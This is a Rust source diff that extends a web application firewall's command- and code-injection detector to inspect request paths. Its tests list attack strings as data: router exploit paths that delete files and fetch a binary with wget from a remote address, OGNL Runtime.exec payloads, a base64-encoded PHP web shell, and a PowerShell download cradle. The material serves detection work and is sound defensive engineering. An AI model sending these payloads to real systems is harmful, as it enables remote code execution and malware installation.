@@ -18,11 +18,13 @@
 //!
 //! Rule 100801 looks for a Log4j lookup (`${jndi:`, `${env:`, `${lower:` and the other lookup
 //! names, or a lookup nested in one within a few bytes, the way obfuscated payloads hide `jndi`)
-//! in every header value, the path and the injection targets. Rule 100802 looks for a Shellshock
-//! function definition (`() {`) at the start of a header value or an argument. Rule 100803
-//! looks for PHP code (`<?php`, `<?=`) and calls of dangerous PHP functions (`system('id')`),
-//! PHP and other stream wrappers (`php://filter`, `expect://`, `phar://`), Java runtime calls
-//! (`java.lang.Runtime`) and PowerShell download cradles in the injection targets.
+//! in every header value, the path and the injection targets; the path is also searched for a
+//! command after a separator, `${IFS}`, and code inside a `${…}` expression. Rule 100802 looks
+//! for a Shellshock function definition (`() {`) at the start of a header value or an argument.
+//! Rule 100803 looks for PHP code (`<?php`, `<?=`) and calls of dangerous PHP functions
+//! (`system('id')`), PHP and other stream wrappers (`php://filter`, `expect://`, `phar://`),
+//! Java runtime calls (`java.lang.Runtime`) and PowerShell download cradles in the injection
+//! targets.
 
 use std::borrow::Cow;
 
@@ -165,6 +167,10 @@ const CODE_LITERALS: &[&str] = &[
     "php://fd",
     "expect://",
     "phar://",
+    "zip://",
+    "compress.zlib://",
+    // ThinkCMF's template tag (`<php>die(@md5(…))</php>`).
+    "<php>",
     // A base64 `data:` URI whose content starts with `<?` (PHP code, `PD9waHA` for `<?php`).
     "base64,pd9",
     "java.lang.runtime",
@@ -245,6 +251,39 @@ impl CommandInjection {
                 _ => String::new(),
             };
             push_once(out, from, finding(id, msg, variable(), &what, &decoded));
+        }
+    }
+
+    /// Reports, in the (decoded) path, a Log4j lookup, a shell command after a separator or
+    /// the shell's `${IFS}` (router exploits: `/cgi-bin/;cd${IFS}/tmp;wget${IFS}…`), and code
+    /// inside an expression (`${@java.lang.Runtime@getRuntime().exec("id")}`, Confluence's
+    /// CVE-2022-26134): a literal alone may be a documentation page's name.
+    fn inspect_path(&self, path: &[u8], out: &mut Vec<Finding>) {
+        let variable = || "REQUEST_FILENAME".to_string();
+        if has_log4j_lookup(path) {
+            out.push(finding(LOG4J_LOOKUP, MSG_LOG4J, variable(), "", path));
+        }
+        let seen = classes(path);
+        let command = (seen & SEPARATOR != 0)
+            .then(|| find_command(&fold_command_line(path)))
+            .flatten()
+            .or_else(|| has_ifs(path).then_some(NO_COMMAND));
+        if let Some(index) = command {
+            let what = COMMANDS
+                .get(index)
+                .map_or(String::new(), |(name, _)| format!("{name}: "));
+            out.push(finding(
+                COMMAND_INJECTION,
+                MSG_COMMAND,
+                variable(),
+                &what,
+                path,
+            ));
+        }
+        let in_expression = memchr::memmem::find(path, b"${").is_some()
+            || memchr::memmem::find(path, b"%{").is_some();
+        if in_expression && self.code.is_match(path) {
+            out.push(finding(CODE_INJECTION, MSG_CODE, variable(), "", path));
         }
     }
 
@@ -480,16 +519,7 @@ impl Detector for CommandInjection {
             }
         }
         deadline.check()?;
-        let path = percent_decode(req.path(), false);
-        if has_log4j_lookup(&path) {
-            out.push(finding(
-                LOG4J_LOOKUP,
-                MSG_LOG4J,
-                "REQUEST_FILENAME".into(),
-                "",
-                &path,
-            ));
-        }
+        self.inspect_path(&percent_decode(req.path(), false), out);
         Ok(())
     }
 }
@@ -928,6 +958,37 @@ mod tests {
     }
 
     #[test]
+    fn commands_and_code_in_the_path_fire() {
+        let d = CommandInjection::new();
+        let path_rules = |path: &str| rules(&inspect_get(&d, path.as_bytes(), &[]));
+        for path in [
+            "/cgi-bin/;cd${IFS}/var/tmp;rm${IFS}-rf${IFS}*;wget${IFS}http://1.2.3.4/mips",
+            "/language/Swedish${IFS}&&cd${IFS}/tmp;wget${IFS}http://1.2.3.4/x",
+            "/cgi-bin/;wget%20http://1.2.3.4/x;sh%20x",
+            "/index.php/$(id)",
+        ] {
+            assert_eq!(path_rules(path), [COMMAND_INJECTION], "{path}");
+        }
+        for path in [
+            "/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/",
+            "/${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"id\").getInputStream()))}/",
+        ] {
+            assert_eq!(path_rules(path), [CODE_INJECTION], "{path}");
+        }
+        for path in [
+            "/app;jsessionid=0A1B2C3D",
+            "/catalog;id=5/shoes",
+            "/tags/rock&roll",
+            "/brands/AT&T/phones",
+            "/docs/api/java.lang.Runtime.html",
+            "/blog/2024/bash-tips-cat-and-ls",
+            "/files/report;version=2.pdf",
+        ] {
+            assert!(path_rules(path).is_empty(), "false positive on {path}");
+        }
+    }
+
+    #[test]
     fn shellshock_fires_in_headers_and_arguments() {
         let d = CommandInjection::new();
         let found = inspect_get(
@@ -977,6 +1038,8 @@ mod tests {
             "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7ID8+",
             "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')",
             "Invoke-WebRequest http://example.com/path/file.ps1",
+            "<php>die(@md5(HelloThinkCMF))</php>",
+            "zip://uploads/avatar.jpg#shell.php",
             "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}",
             "${#context[\"com.opensymphony.xwork2.dispatcher.HttpServletResponse\"]}",
         ] {
